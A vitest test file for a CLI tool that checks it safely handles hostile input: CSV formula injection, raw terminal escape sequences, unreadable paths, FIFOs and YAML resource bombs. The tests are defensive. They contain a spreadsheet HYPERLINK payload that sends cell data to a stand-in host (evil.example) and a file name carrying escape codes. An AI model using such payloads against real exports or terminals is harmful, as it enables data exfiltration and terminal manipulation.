// Hostile and careless input through the real binary: safe exports, no raw escapes, exit 2 naming unreadable paths.

import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildCase, fixturesDir, readRecipe } from '../helpers/bad-input-recipe.js';
import { fixtureFolder } from '../helpers/fixture-workspace.js';
import { runCli } from '../helpers/run-cli.js';

const STACK = /\n\s+at .+:\d+:\d+/;
const badInput = (name: string) => {
  const dir = path.join(fixturesDir, 'bad-inputs', name);
  return buildCase(dir, readRecipe(dir));
};
// Raw ESC (C0) or the 8-bit CSI (C1): either would let data drive the terminal.
const RAW_CONTROL = /[\u001b\u009b]/;

describe('safe exports', () => {
  it('a formula-like clause text is neutralised in CSV', () => {
    const dir = badInput('formula-text');
    const result = runCli(['tasks', '--data', dir, '--unit', '区教育局', '--format', 'csv']);
    expect(result.code, result.stderr).toBe(0);
    const cells = result.stdout.split('\r\n').flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? []);
    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""点击"")组织学生开展红色实践教育。"`);
    expect(cells).toContain(`"'@SUM(1+1)至少召开1次会议。"`);
    for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it.each(['table', 'md', 'csv', 'json'])('escape sequences in data never reach the terminal raw (%s)', (format) => {
    const dir = badInput('control-characters');
    const result = runCli(['tasks', '--data', dir, '--unit', '区教育局', '--format', format]);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain('组织学生');
    expect(result.stdout).not.toMatch(RAW_CONTROL);
    expect(result.stdout).toMatch(format === 'json' ? /\\u001b\[31m/ : /\\u\{1b\}\[31m/);
    // A tab would jump to the next tab stop and break a table's columns: there it is a space.
    if (format === 'table') expect(result.stdout).toMatch(/实践 教育/);
    if (format === 'table') expect(result.stdout).not.toContain('\t');
  });

  it('validate (stylish) shows raw control bytes in a source line and in a file name visibly', () => {
    const dir = fixtureFolder(path.join(fixturesDir, 'validate', 'unknown-unit'));
    fs.writeFileSync(path.join(dir, 'evil\u001b[2J.plan.yaml'), 'kind: plan\ntitle: "\u001b[31m\u009b2J"\n');
    const result = runCli(['validate', dir]);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain('evil\\u{1b}[2J.plan.yaml');
    expect(result.stdout).not.toMatch(RAW_CONTROL);
  });
});

describe('files that cannot be read', () => {
  it('a missing --data folder exits 2 naming it', () => {
    const result = runCli(['tasks', '--data', 'no/such/folder']);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('no/such/folder');
    expect(result.stderr).not.toMatch(STACK);
  });

  it('a file that is not YAML given by name is a usage error, not a silent pass', () => {
    const result = runCli(['validate', 'README.md']);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('README.md');
  });

  it('a FIFO given as a file exits 2 naming it, without blocking', () => {
    const dir = fixtureFolder(path.join(fixturesDir, 'base'), { base: false });
    const fifo = path.join(dir, 'pipe.plan.yaml');
    expect(spawnSync('mkfifo', [fifo]).status).toBe(0);
    const result = runCli(['validate', fifo]);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('pipe.plan.yaml');
    expect(result.stderr).toContain('不是普通文件');
  });

  it('an unreadable file exits 2 naming it (as root every file is readable, so then it validates)', () => {
    const dir = fixtureFolder(path.join(fixturesDir, 'base'));
    const file = path.join(dir, 'alpha.plan.yaml');
    fs.chmodSync(file, 0o000);
    const result = runCli(['validate', dir]);
    const root = process.getuid?.() === 0;
    expect(result.code, result.stderr).toBe(root ? 0 : 2);
    if (!root) expect(result.stderr).toMatch(/alpha\.plan\.yaml(没有读取权限)/);
    expect(result.stderr).not.toMatch(STACK);
  });
});

describe('resource limits through the binary', () => {
  it.each([
    ['huge-file', '文件过大'],
    ['deep-flow-nesting', '嵌套层级过深'],
    ['alias-bomb', '别名'],
  ])('%s ends quickly with a finding naming the file', (name, words) => {
    const started = Date.now();
    const result = runCli(['validate', badInput(name)]);
    expect(Date.now() - started).toBeLessThan(5000);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain(words);
    expect(result.stdout).toMatch(/\.plan\.yaml/);
    expect(result.stderr).not.toMatch(STACK);
  });
});
